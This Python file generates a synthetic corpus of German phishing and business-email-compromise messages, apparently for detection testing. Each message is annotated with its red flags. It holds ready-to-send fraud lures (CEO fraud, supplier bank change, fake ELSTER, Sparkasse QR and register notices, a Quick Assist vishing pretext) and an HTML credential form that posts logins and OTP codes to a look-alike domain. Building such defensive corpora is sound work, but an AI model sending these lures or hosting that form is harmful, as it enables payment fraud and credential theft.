"""German attack messages (01-08)."""
from common import *  # noqa
from banking import de_iban, lt_iban, spaced
from providers import GMX, sendgrid, brevo, vps_postfix, phpmailer, M365
from routes import hop_exim_local, hop_postfix_sub, OutlookSMTP
import base64

MESSAGES = []

# ------------------------------------------------------------------ 01 CEO fraud
t01 = """Guten Morgen Frau Krüger,

ich bin heute und morgen in Kopenhagen bei den Abschlussgesprächen zu dem Vorhaben, über das ich intern bisher nicht sprechen durfte: Wir übernehmen die Mehrheit an einem dänischen Verarbeiter in Hirtshals (Heringsfilets und Matjes, passt genau zu unserer Linie für den LEH). Der Aufsichtsrat ist informiert, das Signing ist für Freitag geplant.

Bis zur Veröffentlichung gilt strikte Vertraulichkeit nach den Vorgaben der dänischen Finanzaufsicht. Bitte sprechen Sie deshalb vorerst weder mit Herrn Wagner noch mit der Buchhaltung darüber, auch nicht mit Frau Köhler.

Für die Exklusivitätsvereinbarung muss heute noch eine Sicherheitsleistung von 186.400,00 EUR auf das Treuhandkonto der begleitenden Kanzlei überwiesen werden. Herr Rechtsanwalt Dr. Clemens Vogt (Vogt & Partner, Frankfurt) betreut die Transaktion und meldet sich im Laufe des Vormittags bei Ihnen mit den Kontodaten und dem Treuhandschreiben. Sie können ihm alle Fragen stellen.

Ich schreibe von meiner privaten Adresse, weil die Berater während der Due Diligence keine Korrespondenz über die Firmenserver wünschen. Telefonisch bin ich in den Sitzungen nicht erreichbar, bitte antworten Sie nur hier per Mail.

Schaffen Sie die Ausführung heute vor 14 Uhr? Eine kurze Rückmeldung genügt mir.

Beste Grüße
Jürgen Hoffmann"""

MESSAGES.append(dict(
    slug='ceo-fraud-uebernahme-freemail',
    frm=('Jürgen Hoffmann', 'juergen.hoffmann.privat@gmx.de'),
    to=[S['cfo']], subject='Vertraulich – Projekt Hirtshals', date='2026-10-12 08:41:17', zone='DE',
    via=GMX('gmx', user_ip='105.112.64.183'),
    body=Text(t01, 'UTF-8', 'quoted-printable'),
    what='CEO fraud: "CEO" on a GMX address asks the CFO to pay a 186,400 EUR deposit for a secret acquisition; a fake lawyer will send account data.',
    why='CEO display name on a free-mail address, secrecy against colleagues, bypass of four-eyes, same-day deadline, unverifiable lawyer, "do not call"; submitted via GMX webmail from a Nigerian mobile IP.',
    tech=['BEC / CEO fraud', 'fake lawyer pretext', 'free-mail display-name spoof'],
))

# ------------------------------------------------------------------ 02 supplier bank change, look-alike
t02 = """Hallo Frau Weiß,

vielen Dank für die Rückmeldung.

Bitte beachten Sie, dass wir im Zuge der Umstellung auf unsere neue Hausbank seit dem 01.10.2026 Zahlungen nicht mehr auf das bisherige Konto bei der Sparkasse entgegennehmen können; dieses wird derzeit aufgelöst und Rücklastschriften verursachen uns Gebühren. Die neue Bankverbindung finden Sie im angehängten Schreiben unserer Geschäftsführung:

Kontoinhaber: Lieferant GmbH
IBAN: {iban}
BIC: NTSBDEB1XXX

Da die offenen Posten durch die Umstellung bereits überfällig sind, wären wir Ihnen dankbar, wenn Sie alle drei Rechnungen (RE-2026-10412, RE-2026-10477 und RE-2026-10503, zusammen 48.716,32 EUR) noch in dieser Woche auf das neue Konto anweisen. Bitte senden Sie mir anschließend kurz das Zahlungsavis zu.

Unsere Telefonanlage wird im Zuge der Umstellung in dieser Woche ebenfalls migriert, daher erreichen Sie uns am zuverlässigsten per E-Mail.

Mit freundlichen Grüßen

Petra Lang
Vertriebsinnendienst

Lieferant GmbH
Neufelder Straße 21 · 27472 Cuxhaven
Tel. +49 4721 39 88-14
www.lieferant-gmbh.de

Geschäftsführer: Stefan Maier, Dr. Ulrike Maier · Amtsgericht Tostedt HRB 20 4471

{quoted}"""

q02 = outlook_reply_header('de', 'Weiß, Monika <monika.weiss@example.com>', 'Dienstag, 6. Oktober 2026 10:12',
                           'Petra Lang <p.lang@lieferant-gmbh.de>',
                           'AW: Offene Posten Lieferant GmbH / Example Group – Stand Oktober') + """

Hallo Frau Lang,

die RE-2026-10412 ist für den Zahllauf am 15.10. vorgemerkt, die beiden anderen Rechnungen prüfen wir noch gegen den Wareneingang (Folie MAP 400 mm, Lieferung vom 28.09.).

Viele Grüße
Monika Weiß
Kreditorenbuchhaltung
Example Group GmbH"""

iban02 = de_iban('10011001', '2617384950')
body02 = t02.format(iban=spaced(iban02), quoted=q02)
letter02 = letter_pdf([
    ('b', 'Lieferant GmbH'), ('s', 'Neufelder Straße 21 · 27472 Cuxhaven'), '',
    'Example Group GmbH', 'Kreditorenbuchhaltung', 'Am Lunedeich 118', '27572 Bremerhaven', '',
    ('r', 'Cuxhaven, 05.10.2026'), '',
    ('b', 'Änderung unserer Bankverbindung'), '',
    'Sehr geehrte Damen und Herren,', '',
    'wir informieren Sie, dass wir unsere Bankverbindung mit Wirkung zum 01.10.2026 geändert haben.',
    'Bitte leisten Sie sämtliche Zahlungen ab sofort ausschließlich auf folgendes Konto:', '',
    'Kontoinhaber: Lieferant GmbH', 'IBAN: ' + spaced(iban02), 'BIC: NTSBDEB1XXX', '',
    'Zahlungen auf die bisherige Bankverbindung können nicht mehr gutgeschrieben werden.',
    'Bitte aktualisieren Sie Ihre Stammdaten entsprechend.', '',
    'Mit freundlichen Grüßen', '', 'Stefan Maier', 'Geschäftsführer',
], 'Bankverbindung Lieferant GmbH', 'Petra Lang', pdfdate="20261005142211+02'00'")

MESSAGES.append(dict(
    slug='lieferant-bankwechsel-lookalike',
    frm=('Petra Lang', 'p.lang@lieferannt-gmbh.de'),
    to=[S['ap']], cc=[('Lieferant GmbH Buchhaltung', 'rechnungen@lieferannt-gmbh.de')],
    subject='AW: Offene Posten Lieferant GmbH / Example Group – Stand Oktober',
    date='2026-10-08 15:22:40', zone='DE',
    in_reply_to='<AM0PR07MB4417C0D52E8A4F1B92E7C3AE9A4C2@AM0PR07MB4417.eurprd07.prod.outlook.com>',
    via=vps_postfix('mail.lieferannt-gmbh.de', 'static.95.201.43.118.clients.your-server.de',
                    '118.43.201.95', hdr_cs='iso-8859-1', user_ip='185.107.56.221'),
    body=mixed(alt(Text(body02, 'windows-1252', 'quoted-printable'),
                   Text(h_outlook(body02, 'windows-1252'), 'windows-1252', 'quoted-printable', 'html')),
               Att('Bankverbindung_Lieferant_GmbH_neu.pdf', 'application/pdf', letter02)),
    what='Supplier bank-detail change: "Petra Lang" of Lieferant GmbH replies in a stolen thread and asks AP to pay three overdue invoices to a new account.',
    why='Look-alike domain lieferannt-gmbh.de (double n) on a Hetzner VPS, thread copied from a real conversation, new account at a neobank instead of the known Sparkasse, pressure to pay everything this week, phone "unavailable".',
    tech=['BEC / supplier bank-detail change', 'look-alike domain', 'thread hijack (copied thread)', 'VPS infrastructure'],
))

# ------------------------------------------------------------------ 03 ELSTER
u03 = 'https://u4829113.ct.sendgrid.net/ls/click?upn=u001.' + 'Yk2v7Q-2BpL0aMx3w8eN1cR-2FhT5sJq9uD4oZ6' + 'nKbH-3DvX7F_Lm2'
t03 = """Elektronische Benachrichtigung – ELSTER Unternehmenskonto

Sehr geehrte Damen und Herren,

in Ihrem ELSTER-Postfach liegt eine neue Nachricht Ihres Finanzamts Bremerhaven zum Abruf bereit:

Betreff: Festsetzung eines Verspätungszuschlags (§ 152 AO) – Umsatzsteuer-Voranmeldung September 2026
Steuernummer: 75 574 *** ***
Eingang: 14.10.2026

Die Einspruchsfrist beträgt einen Monat ab Bekanntgabe. Bescheide gelten am dritten Tag nach Bereitstellung als bekannt gegeben.

Zum Abruf melden Sie sich bitte mit der Zertifikatsdatei Ihres Organisationszertifikats an:
{url}

Aus Sicherheitsgründen ist der Link 72 Stunden gültig.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.""".format(url=u03)
h03 = h_notice('utf-8', 'Neue Nachricht in Ihrem ELSTER-Postfach', [
    'Sehr geehrte Damen und Herren,',
    'in Ihrem ELSTER-Postfach liegt eine neue Nachricht Ihres <b>Finanzamts Bremerhaven</b> zum Abruf bereit:',
    '<b>Betreff:</b> Festsetzung eines Verspätungszuschlags (§ 152 AO) – Umsatzsteuer-Voranmeldung September 2026<br>'
    '<b>Steuernummer:</b> 75 574 *** ***<br><b>Eingang:</b> 14.10.2026',
    'Die Einspruchsfrist beträgt einen Monat ab Bekanntgabe. Bescheide gelten am dritten Tag nach Bereitstellung als bekannt gegeben.',
    'Zum Abruf melden Sie sich bitte mit der Zertifikatsdatei Ihres Organisationszertifikats an.'],
    button=('Nachricht abrufen', u03), color='#0b5394', brand='ELSTER', lang='de',
    footer='Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.<br>'
           'Bayerisches Landesamt für Steuern – Dienststelle München, im Auftrag der Steuerverwaltungen der Länder',
    after=['Aus Sicherheitsgründen ist der Link 72 Stunden gültig.'])

MESSAGES.append(dict(
    slug='elster-bescheid-zertifikat',
    frm=('ELSTER - Ihr Online-Finanzamt', 'benachrichtigung@elster-postfach-portal.de'),
    to=[S['acc_de']], subject='Neue Nachricht in Ihrem ELSTER-Postfach: Verspätungszuschlag USt-VA 09/2026',
    date='2026-10-14 06:52:03', zone='DE', date_zone='UTC',
    via=sendgrid('em7731.elster-postfach-portal.de'),
    body=alt(Text(t03, 'utf-8', 'quoted-printable'), Text(h03, 'utf-8', 'quoted-printable', 'html')),
    what='Tax-office phishing: fake ELSTER notice about a late-filing surcharge; link (SendGrid click tracking) to a page asking for the organisation certificate file and PIN.',
    why='ELSTER mails come from elster.de and never link to a certificate login; look-alike domain elster-postfach-portal.de sent through a SendGrid account, masked link, deadline pressure.',
    tech=['credential phishing: national tax office', 'bulk ESP abuse (SendGrid)', 'look-alike domain'],
))

# ------------------------------------------------------------------ 04 Sparkasse quishing
qr04 = 'https://s-pushtan-aktualisierung.de/we/?kdnr=29250000&ref=8F3K2-WQ7&src=qr'
t04 = """Sehr geehrte Kundin, sehr geehrter Kunde,

zum 31.10.2026 stellt Ihre Sparkasse das S-pushTAN-Verfahren für Firmenkunden auf die neue Gerätebindung (S-ID-Check 2.0) um. Ihre bisherige Registrierung verliert danach ihre Gültigkeit; Überweisungen und Sammelaufträge im Online-Banking können dann nicht mehr freigegeben werden.

Die Aktualisierung dauert weniger als zwei Minuten: Scannen Sie den QR-Code in dieser Nachricht mit der Kamera Ihres Smartphones und folgen Sie den Schritten in der App.

Ihr Aktivierungscode: 8F3K2-WQ7

Vielen Dank, dass Sie uns helfen, Ihr Konto zu schützen.

Ihre Sparkasse
Firmenkundenservice

Dies ist eine automatisch versendete Nachricht."""
h04 = h_notice('utf-8', 'S-pushTAN: Aktualisierung erforderlich', [
    'Sehr geehrte Kundin, sehr geehrter Kunde,',
    'zum <b>31.10.2026</b> stellt Ihre Sparkasse das S-pushTAN-Verfahren für Firmenkunden auf die neue Gerätebindung (S-ID-Check 2.0) um. Ihre bisherige Registrierung verliert danach ihre Gültigkeit; Überweisungen und Sammelaufträge im Online-Banking können dann nicht mehr freigegeben werden.',
    'Die Aktualisierung dauert weniger als zwei Minuten: Scannen Sie den QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Schritten in der App.',
    '<img src="cid:qr-pushtan-8f3k2@sparkasse" width="180" height="180" alt="QR-Code"><br>Ihr Aktivierungscode: <b>8F3K2-WQ7</b>'],
    color='#ff0000', brand='Sparkasse', lang='de',
    footer='Dies ist eine automatisch versendete Nachricht.<br>Ihre Sparkasse · Firmenkundenservice')

MESSAGES.append(dict(
    slug='sparkasse-pushtan-quishing',
    frm=('Sparkasse Firmenkundenservice', 'firmenkunden@sparkasse-kundenservice-online.de'),
    to=[S['cfo']], subject='Wichtig: Aktualisierung S-pushTAN bis 31.10.2026 erforderlich',
    date='2026-10-19 10:07:55', zone='DE', date_zone='UK',
    via=phpmailer(('srv41.webhost-lusitano.pt', 'srv41.webhost-lusitano.pt', '185.32.188.41'),
                  [hop_exim_local('quintadovale', 'srv41.webhost-lusitano.pt', 'UK',
                                  'quintadovale@srv41.webhost-lusitano.pt')],
                  'quintadovale-turismo.pt',
                  extra=[('X-AntiAbuse', 'This header was added to track abuse, please include it with any abuse report'),
                         ('X-AntiAbuse', 'Primary Hostname - srv41.webhost-lusitano.pt'),
                         ('X-AntiAbuse', 'Original Domain - example.com'),
                         ('X-AntiAbuse', 'Originator/Caller UID/GID - [1187 994] / [47 12]'),
                         ('X-AntiAbuse', 'Sender Address Domain - srv41.webhost-lusitano.pt'),
                         ('X-Get-Message-Sender-Via', 'srv41.webhost-lusitano.pt: authenticated_id: quintadovale/from_h'),
                         ('X-Authenticated-Sender', 'srv41.webhost-lusitano.pt: quintadovale')],
                  rp=lambda c: 'quintadovale@srv41.webhost-lusitano.pt'),
    body=related(alt(Text(t04, 'utf-8', 'base64'), Text(h04, 'utf-8', 'base64', 'html')),
                 Att('qr.png', 'image/png', qr_png(qr04), inline=True, cid='qr-pushtan-8f3k2@sparkasse')),
    qr=[qr04],
    what='Quishing: "Sparkasse" asks to re-register S-pushTAN by scanning an inline QR code that leads to a fake banking login.',
    why='Banks never request re-registration via QR code in e-mail; look-alike sender domain, sent by a PHP script on a compromised Portuguese rural-tourism web host, QR hides the phishing URL from link scanners.',
    tech=['quishing (QR code)', 'credential phishing: bank', 'compromised web host (PHPMailer/cPanel)'],
))

# ------------------------------------------------------------------ 05 fake register offer
t05 = """Sehr geehrte Damen und Herren,

anbei erhalten Sie die Unterlagen zur Eintragung Ihres Unternehmens

Example Group GmbH
Am Lunedeich 118, 27572 Bremerhaven
Registergericht: Amtsgericht Bremen, Handelsregister B

in das Zentrale Handels- und Gewerberegisterverzeichnis (ZHGR) für das Geschäftsjahr 2027.

Bitte prüfen Sie die Angaben und überweisen Sie den Betrag unter Angabe des Aktenzeichens ZHGR-2026-DE-118734 bis zum 30.10.2026. Mit der Zahlung wird die Eintragung für Auftraggeber, Banken und Behörden abrufbar.

Mit freundlichen Grüßen

ZHGR Zentrales Handels- und Gewerberegisterverzeichnis
Abteilung Registerverwaltung"""
iban05 = lt_iban('35000', '10004418822')
pdf05 = letter_pdf([
    ('b', 'ZHGR - Zentrales Handels- und Gewerberegisterverzeichnis'),
    ('s', 'Registerverwaltung · Postfach 10 12 44 · 10048 Berlin'), '',
    'Example Group GmbH', 'Am Lunedeich 118', '27572 Bremerhaven', '',
    ('h', 'Eintragungsofferte / Zahlungsaufforderung'), '',
    ('t', [(0, 'Aktenzeichen'), (150, 'ZHGR-2026-DE-118734')]),
    ('t', [(0, 'Datum'), (150, '19.10.2026')]),
    ('t', [(0, 'Zahlbar bis'), (150, '30.10.2026')]), '',
    ('t', [(0, 'Eintragung Register-Basisdaten 2027'), (360, '998,00 EUR')]),
    ('t', [(0, 'USt. 19 %'), (360, '189,62 EUR')]),
    ('t', [(0, 'Gesamtbetrag'), (360, '1.187,62 EUR')]), '',
    'Empfänger: ZHGR Registerverwaltung', 'IBAN: ' + spaced(iban05), 'BIC: EVIULT2VXXX', '',
    ('s', 'Hinweis: Es handelt sich um ein Angebot zur Eintragung in das privat geführte Verzeichnis ZHGR.'),
    ('s', 'Mit Zahlung kommt ein Vertrag mit einer Laufzeit von drei Jahren zustande, der sich jeweils um ein'),
    ('s', 'weiteres Jahr verlängert, sofern er nicht drei Monate vor Ablauf schriftlich gekündigt wird.'),
    ('s', 'Keine Verbindung zu amtlichen Registern. Es gelten unsere AGB.'),
], 'Eintragungsofferte ZHGR-2026-DE-118734', 'ZHGR', creator='Writer', producer='LibreOffice 24.8',
    pdfdate="20261019090211+02'00'")
MESSAGES.append(dict(
    slug='register-eintragungsofferte',
    frm=('ZHGR Registerverwaltung', 'registerverwaltung@zhgr-verzeichnis.de'),
    to=[('Buchhaltung Example Group', 'tobias.wagner@example.com')],
    subject='Eintragung Handels- und Gewerberegister 2027 – Aktenzeichen ZHGR-2026-DE-118734',
    date='2026-10-19 09:04:38', zone='DE',
    via=brevo('bounce.zhgr-verzeichnis.de'),
    body=mixed(alt(Text(t05, 'iso-8859-15', 'quoted-printable'),
                   Text(h_simple(t05, 'iso-8859-15'), 'iso-8859-15', 'quoted-printable', 'html')),
               Att('ZHGR-2026-DE-118734_Zahlungsaufforderung.pdf', 'application/pdf', pdf05)),
    what='Fake register invoice: a private "central trade register directory" sends a payment request styled like an official register fee, 1,187.62 EUR to a Lithuanian payment-institution IBAN.',
    why='Not an official register (the Handelsregister charges no such fee), offer disguised as invoice with a 3-year auto-renewing contract in small print, unsolicited, sent via Brevo from a new domain.',
    tech=['fake directory/register invoice', 'bulk ESP abuse (Brevo)'],
))

# ------------------------------------------------------------------ 06 BLE / CATCH catch certificate
t06 = """Sehr geehrte Damen und Herren,

bei der Prüfung der Fangbescheinigung zu Ihrer Einfuhrsendung wurden Unstimmigkeiten festgestellt:

Fangbescheinigung: NO-CATCH-2026-0418836
Erzeugnis: Kabeljau (Gadus morhua), gefroren, Filets – KN 0304 71
Container: MSKU 742118-3, Grenzkontrollstelle Bremerhaven
Grund: Validierung durch den Flaggenstaat nicht nachgewiesen (Feld 4)

Die Sendung wird bis zur Klärung gemäß Art. 17 der Verordnung (EG) Nr. 1005/2008 zurückgehalten. Bitte bestätigen Sie die Angaben innerhalb von 48 Stunden im IT-System CATCH über Ihren EU-Login. Den vollständigen Bescheid mit dem Zugang zum Vorgang finden Sie in der Anlage.

Erfolgt innerhalb der Frist keine Bestätigung, wird die Einfuhr abgelehnt und die Sendung auf Kosten des Einführers zurückgewiesen.

Mit freundlichen Grüßen
Im Auftrag
Referat 523 – Fischereiüberwachung, IUU-Kontrollen
Bundesanstalt für Landwirtschaft und Ernährung"""
html06 = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>EU Login - CATCH</title>
<style>body{font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;margin:0}
.hd{background:#004494;color:#fff;padding:14px 24px;font-size:18px}
.box{width:420px;margin:40px auto;background:#fff;padding:28px;border:1px solid #ddd}
label{display:block;font-size:13px;margin-top:14px}input{width:100%;padding:8px;margin-top:4px;border:1px solid #999}
button{margin-top:20px;background:#004494;color:#fff;border:0;padding:10px 22px;font-size:14px}
.small{font-size:11px;color:#555;margin-top:18px}</style></head>
<body><div class="hd">European Commission &middot; EU Login</div>
<div class="box"><h2 style="font-size:18px">Anmeldung bei CATCH</h2>
<p style="font-size:13px">Vorgang <b>NO-CATCH-2026-0418836</b> &ndash; Bestätigung der Fangbescheinigung erforderlich.</p>
<form method="post" action="https://ecas-catch-validation.eu/cas/login?service=catch&amp;case=0418836">
<label>E-Mail-Adresse oder eindeutige Kennung<input type="email" name="username" value=""></label>
<label>Passwort<input type="password" name="password"></label>
<label>Bestätigungsmethode<input type="text" name="otp" placeholder="Code aus EU Login Mobile App"></label>
<button type="submit">Anmelden</button></form>
<p class="small">Dieser Dienst wird von der Europäischen Kommission bereitgestellt. Datenschutzerklärung &middot; Impressum</p>
</div></body></html>
"""
MESSAGES.append(dict(
    slug='ble-catch-fangbescheinigung-html',
    frm=('BLE IUU-Kontrolle', 'iuu-kontrolle@ble-fangbescheinigung.de'),
    to=[S['log']], cc=[S['proc']],
    subject='Fangbescheinigung NO-CATCH-2026-0418836 beanstandet – Sendung MSKU 742118-3 zurückgehalten',
    date='2026-10-21 13:16:09', zone='DE',
    via=vps_postfix('mail.ble-fangbescheinigung.de', 'vps-3f2a9c1d.vps.ovh.net', '51.75.146.203',
                    client='Thunderbird', user_ip='91.132.144.59'),
    body=mixed(Text(t06, 'UTF-8', '8bit'),
               Att('Bescheid_CATCH_NO-2026-0418836.html', 'text/html', html06.encode('utf-8'),
                   charset='UTF-8')),
    what='Trade-specific credential phishing: fake BLE (German IUU authority) notice that a catch certificate was rejected and a cod container is held; HTML attachment imitates the EU Login page of the CATCH system.',
    why='HTML attachment with a credential form posting to ecas-catch-validation.eu, look-alike domain ble-fangbescheinigung.de on an OVH VPS, threat of rejection within 48 h; BLE/EU never send login forms as attachments.',
    tech=['HTML attachment (credential form)', 'credential phishing: customs/regulator (CATCH / EU Login)', 'look-alike domain', 'VPS infrastructure'],
))

# ------------------------------------------------------------------ 07 Teams / Quick Assist vishing pretext
t07 = """Hallo zusammen,

seit heute früh erreichen viele Postfächer bei Example Group große Mengen an Newsletter- und Spam-Anmeldungen. Wir bereinigen die betroffenen Postfächer im Laufe des Tages zentral.

Damit die Filterregeln auf Ihrem Arbeitsplatz korrekt gesetzt werden, ruft Sie unser Support-Partner heute zwischen 13:00 und 15:30 Uhr über Microsoft Teams an (angezeigt als „IT Service Desk“, externer Kontakt). Bitte nehmen Sie den Anruf an. Der Kollege wird Sie bitten, die Windows-App „Remotehilfe“ (Quick Assist) zu öffnen und ihm den angezeigten Sicherheitscode zu nennen; die Sitzung dauert etwa zehn Minuten.

Bitte leiten Sie in der Zwischenzeit keine Spam-Mails an den Helpdesk weiter und löschen Sie sie einfach.

Vielen Dank für Ihre Unterstützung.

Mit freundlichen Grüßen
i. A. Thomas Becker
IT-Service Desk
Example Group GmbH"""
MESSAGES.append(dict(
    slug='it-servicedesk-teams-remotehilfe',
    frm=('IT Service Desk | Example Group', 'servicedesk@examplegroupit.onmicrosoft.com'),
    to=[S['ap'], S['acc_de'], S['assist'], S['hr']],
    subject='Spam-Welle: Bereinigung Ihres Postfachs – Rückruf IT-Support über Teams',
    date='2026-10-22 11:38:46', zone='DE',
    rcpt=S['ap'][1],
    via=M365(region='EUR03', pod='AS8', prd='eurprd03', lang='de-DE', tenant='examplegroupit', ipnet='40.107.103'),
    body=alt(Text(t07, 'windows-1252', 'quoted-printable'),
             Text(h_outlook(t07, 'windows-1252'), 'windows-1252', 'quoted-printable', 'html')),
    what='Remote-access vishing pretext: "IT Service Desk" from an external Microsoft 365 trial tenant announces Teams calls after a spam flood and asks staff to start Quick Assist and read out the code.',
    why='Sent from examplegroupit.onmicrosoft.com (not the company tenant), impersonates the Head of IT, external Teams contact, asks users to grant remote control - the Storm-1811/Black Basta playbook.',
    tech=['Teams / Quick Assist remote-access vishing', 'abused genuine service (Microsoft 365 trial tenant)', 'internal IT impersonation'],
))

# ------------------------------------------------------------------ 08 application with encrypted ZIP
t08 = """Sehr geehrte Frau Schäfer,

mit großem Interesse habe ich Ihre Stellenanzeige als Schichtleiterin in der Produktion (Filetierung/Verpackung) am Standort Bremerhaven gelesen und bewerbe mich hiermit um die Position.

Ich bin gelernte Fachkraft für Lebensmitteltechnik und arbeite seit sechs Jahren in der Fischverarbeitung, zuletzt als stellvertretende Schichtleiterin bei einem Räucherei- und Feinkostbetrieb in Cuxhaven. Dort bin ich für ein Team von 14 Mitarbeiterinnen und Mitarbeitern, die HACCP-Dokumentation und die Einarbeitung neuer Kolleginnen zuständig. Schichtarbeit bin ich gewohnt, einen Staplerschein habe ich ebenfalls.

Meine vollständigen Bewerbungsunterlagen (Anschreiben, Lebenslauf, Zeugnisse) finden Sie im Anhang. Aus Datenschutzgründen habe ich das Archiv verschlüsselt, das Passwort lautet: Bewerbung2026

Über eine Einladung zu einem persönlichen Gespräch freue ich mich sehr. Ein Eintritt wäre zum 01.01.2027 möglich.

Mit freundlichen Grüßen
Lena Hartmann"""
zip08 = zip_bytes([('Bewerbung_Lena_Hartmann/Lebenslauf_Lena_Hartmann.pdf.exe', PLACEHOLDER),
                   ('Bewerbung_Lena_Hartmann/Zeugnisse_Hartmann.pdf.lnk', PLACEHOLDER)],
                  when=(2026, 10, 26, 19, 2, 14), password='Bewerbung2026', seed='08de')
MESSAGES.append(dict(
    slug='bewerbung-zip-passwort',
    frm=('Lena Hartmann', 'lena.hartmann93@web.de'),
    to=[S['hr']], subject='Bewerbung als Schichtleiterin Produktion – Lena Hartmann',
    date='2026-10-27 07:55:31', zone='DE',
    via=GMX('webde', user_ip='45.134.212.87'),
    body=mixed(Text(t08, 'UTF-8', 'quoted-printable'),
               Att('Bewerbung_Lena_Hartmann.zip', 'application/zip', zip08)),
    zip_password='Bewerbung2026',
    what='Malicious job application to HR: password-protected ZIP ("for data protection") containing a CV with a double extension .pdf.exe and a .lnk shortcut (placeholders).',
    why='Encrypted archive with password in the body to defeat scanning, executable and shortcut disguised as PDFs, classic German ransomware "Bewerbung" lure; web.de account submitted from a hosting/VPN IP.',
    tech=['password-protected archive (ZipCrypto)', 'malware lure: executable / LNK in archive', 'job application pretext'],
))
